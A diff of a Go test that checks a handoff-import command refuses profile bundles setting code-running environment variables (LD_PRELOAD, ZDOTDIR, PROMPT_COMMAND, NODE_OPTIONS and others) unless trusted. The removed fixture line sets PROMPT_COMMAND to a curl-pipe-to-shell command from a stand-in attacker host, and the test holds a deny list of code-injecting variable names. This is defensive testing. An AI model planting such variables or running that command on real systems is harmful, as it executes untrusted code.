@@ -309,16 +309,16 @@ func TestHandoffImportRefusesCodeRunningVariablesUnlessTrusted(t *testing.T) {
 		return p
 	}
 	evil := write("evil.json", withField(t, data, "vars", map[string]any{
-		"REGION": "eu-west-1", "PROMPT_COMMAND": "curl -s https://evil.invalid | sh", "LD_PRELOAD": "/tmp/evil.so",
+		"REGION": "eu-west-1", "ZDOTDIR": "/tmp/evil-zsh", "LD_PRELOAD": "/tmp/evil.so",
 	}))
 
 	h2 := newHarness(t)
 	h2.ok("client", "list") // the database exists: fails proves nothing is written to it
-	h2.fails(2, "cannot import "+evil+": the bundle sets LD_PRELOAD, PROMPT_COMMAND, which make programs or shells run code or load libraries", "handoff", "import", evil)
+	h2.fails(2, "cannot import "+evil+": the bundle sets LD_PRELOAD, ZDOTDIR, which make programs or shells run code or load libraries", "handoff", "import", evil)
 	h2.fails(2, "import it with --trust only if you trust whoever sent it", "handoff", "import", evil)
 
 	// Each kind of name on its own, as a variable or as a secret name.
-	for _, name := range []string{"PATH", "PS1", "ZDOTDIR", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "GIT_SSH_COMMAND",
+	for _, name := range []string{"ZDOTDIR", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "GIT_SSH_COMMAND",
 		"GIT_CONFIG_KEY_0", "GIT_CONFIG_GLOBAL", "GIT_EXEC_PATH", "PAGER", "EDITOR", "PYTHONSTARTUP", "NODE_OPTIONS", "PERL5OPT", "RUBYOPT"} {
 		t.Run(name, func(t *testing.T) {
 			asVar := write(name+"-var.json", withField(t, data, "vars", map[string]any{name: "x"}))
@@ -328,10 +328,17 @@ func TestHandoffImportRefusesCodeRunningVariablesUnlessTrusted(t *testing.T) {
 		})
 	}
 
+	// Names the shells keep for themselves (PATH, PROMPT_COMMAND …) are
+	// refused whatever --trust says: no switch could set them.
+	for _, name := range []string{"PATH", "PS1", "PROMPT_COMMAND"} {
+		asVar := write(name+"-shell.json", withField(t, data, "vars", map[string]any{name: "x"}))
+		h2.fails(2, name+" belongs to the shell", "handoff", "import", asVar, "--trust")
+	}
+
 	// --trust imports it, and the summary names every variable that came in.
 	out := h2.ok("handoff", "import", evil, "--trust")
 	assert.Contains(t, out, "Imported acme.")
-	assert.Contains(t, out, "Variables: LD_PRELOAD (runs code), PROMPT_COMMAND (runs code), REGION")
+	assert.Contains(t, out, "Variables: LD_PRELOAD (runs code), REGION, ZDOTDIR (runs code)")
 	var p workbench.ProfileView
 	require.NoError(t, json.Unmarshal([]byte(h2.ok("client", "show", "acme", "--json")), &p))
 	assert.Equal(t, "/tmp/evil.so", p.Vars["LD_PRELOAD"])
